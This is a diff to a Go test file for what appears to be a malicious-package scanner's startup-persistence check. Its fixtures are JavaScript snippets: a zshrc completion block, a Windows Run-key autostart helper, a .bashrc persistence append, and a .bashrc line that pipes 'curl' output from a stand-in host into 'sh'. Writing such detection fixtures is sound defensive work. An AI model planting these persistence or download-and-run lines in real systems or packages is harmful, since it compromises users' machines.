@@ -8,7 +8,23 @@ import (
 )
 
 func TestStartupEntry(t *testing.T) {
+	autostart := func(undo string) string {
+		return `const fs = require("fs"), os = require("os"), path = require("path"), { execFile } = require("child_process");
+const RUN_KEY = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
+function reg(args) { return new Promise((resolve, reject) => execFile("reg.exe", args, (e, out) => (e ? reject(e) : resolve(out)))) }
+exports.enable = (name, cmd) => process.platform === "win32" ? reg(["add", RUN_KEY, "/v", name, "/d", cmd, "/f"]) : fs.writeFileSync(path.join(os.homedir(), ".config", "autostart", name + ".desktop"), "[Desktop Entry]\nExec=" + cmd);
+exports.disable = (name) => reg(["` + undo + `", RUN_KEY, "/v", name, "/f"]);`
+	}
 	rt.Check(t, StartupEntry{}, []rt.Case{
+		// a completion installer's marked block in ~/.zshrc, which its
+		// uninstall cuts out again; the same installer without it
+		{"rc_block_cut_out_again", map[string]string{"index.js": rcBlock + `
+exports.uninstall = () => { const text = fs.readFileSync(rc, "utf8"); fs.writeFileSync(rc, text.replace(/# >>> x[\s\S]*# <<< x\n/, "")) };`}, finding.SeverityMedium},
+		{"rc_block_kept", map[string]string{"index.js": rcBlock}, finding.SeverityHigh},
+		// an autostart API whose disable deletes the Run value through
+		// its reg.exe wrapper; one whose "disable" only queries it
+		{"run_key_removed_through_wrapper", map[string]string{"index.js": autostart("delete")}, finding.SeverityMedium},
+		{"run_key_only_queried", map[string]string{"index.js": autostart("query")}, finding.SeverityHigh},
 		{"bashrc", map[string]string{"index.js": `const fs=require("fs"),p=require("path"),os=require("os"); fs.appendFileSync(p.join(os.homedir(), ".bashrc"), "node ~/.x.js &")`}, finding.SeverityHigh},
 		{"bashrc_download_exec", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\ncurl -s http://x.invalid/b | sh &\n")`}, finding.SeverityCritical},
 		// a user unit starting an agent the package decodes from data it
@@ -331,3 +347,7 @@ const dir = path.join(process.env.LOCALAPPDATA, "exodus"); for (const d of fs.re
 		{"electron_builder_asar", map[string]string{"index.js": `const fs = require("fs"); fs.writeFileSync(path.join(out, "resources", "app.asar"), archive); log("atomic write done")`}, finding.SeverityNone},
 	})
 }
+
+// rcBlock appends a marked completion block to ~/.zshrc.
+const rcBlock = `const fs = require("fs"), os = require("os"), path = require("path"); const rc = path.join(os.homedir(), ".zshrc");
+exports.install = () => { const p = { rc, next: fs.readFileSync(rc, "utf8") + "\n# >>> x\nsource <(x completion zsh)\n# <<< x\n" }; fs.writeFileSync(p.rc, p.next) };`
